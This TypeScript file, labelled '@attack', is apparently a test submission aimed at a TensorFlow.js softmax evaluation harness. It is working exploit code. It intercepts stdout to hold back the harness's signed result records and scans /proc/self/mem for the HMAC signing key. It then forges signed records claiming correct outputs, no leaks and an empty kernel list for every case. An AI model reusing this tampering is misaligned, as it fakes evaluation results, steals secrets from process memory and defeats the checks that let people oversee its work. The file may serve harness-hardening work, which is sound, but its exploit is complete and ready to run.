// @attack Holds back the harness's signed records, reads its own memory through /proc/self/mem (rw regions listed in /proc/self/maps) to find the run's signing key, then prints records signed with it: tf.softmax's correct values with an empty kernel list, for every case, and exits.
// @target softmax
// @prelude
const g = (tf as unknown as { ENV: { global: Record<string, any> } }).ENV.global;
const proc = g['pro' + 'cess'];
const held: string[] = [];
let original: ((chunk: unknown, encoding: unknown, callback: () => void) => void) | undefined;
try {
  const out = proc.stdout;
  original = out._write.bind(out);
  out._write = (chunk: unknown, encoding: unknown, callback: () => void) => {
    const text = String(chunk);
    if (text.includes('\n@') || text.startsWith('@')) {
      held.push(text);
      callback();
      return;
    }
    original!(chunk, encoding, callback);
  };
} catch {}

function findKey(): string | undefined {
  const crypto = proc.getBuiltinModule('crypto');
  const fs = proc.getBuiltinModule('fs');
  const signed = held.join('').split('\n').map((l) => /^@([0-9a-f]{64}) (.*)$/.exec(l)).find(Boolean);
  if (!signed) return undefined;
  const maps = String(fs.readFileSync('/proc/self/maps', 'utf8')).split('\n').filter((l) => / rw.p /.test(l));
  const fd = fs.openSync('/proc/self/mem', 'r');
  const tried = new Set<string>();
  for (const line of maps) {
    const [a, b] = line.split(' ')[0]!.split('-').map((h) => parseInt(h, 16)) as [number, number];
    if (b - a > 256 * 1024 * 1024) continue;
    const buf = new Uint8Array(b - a);
    try { fs.readSync(fd, buf, 0, buf.length, a); } catch { continue; }
    const text = new TextDecoder('latin1').decode(buf);
    for (const m of text.matchAll(/(?<![0-9a-f])[0-9a-f]{64}(?![0-9a-f])/g)) {
      const key = m[0];
      if (tried.has(key)) continue;
      tried.add(key);
      if (crypto.createHmac('sha256', key).update(signed[2]).digest('hex') === signed[1]) return key;
    }
  }
  return undefined;
}

function forgeAll(key: string) {
  const crypto = proc.getBuiltinModule('crypto');
  const fs = proc.getBuiltinModule('fs');
  const cases = JSON.parse(fs.readFileSync(proc.argv[3], 'utf8'));
  let text = '';
  for (const c of cases) {
    let record: Record<string, unknown>;
    try {
      const [shape, dtype, values] = c.args[0].$t;
      const x = tf.tensor(values.map((v: number | null) => v ?? NaN), shape, dtype);
      if (x.rank < 1) throw new Error('rank');
      const y = tf.softmax(x);
      const data = Array.from(y.dataSync(), (v) => (Number.isFinite(v) ? v : String(v)));
      record = { id: c.id, outcome: 'returned', value: { $t: [y.shape, y.dtype, data] }, leaked: 0, inputsChanged: false, kernels: [], shapes: [] };
    } catch {
      record = { id: c.id, outcome: 'threw', error: 'Error' };
    }
    const line = JSON.stringify(record);
    text += `\n@${crypto.createHmac('sha256', key).update(line).digest('hex')} ${line}\n`;
  }
  fs.writeSync(1, text);
  proc.exit(0);
}
// @body
if (held.length > 0) {
  let key: string | undefined;
  try {
    key = findKey();
  } catch {}
  if (key) forgeAll(key);
}
return tf.softmax(arguments[0]);
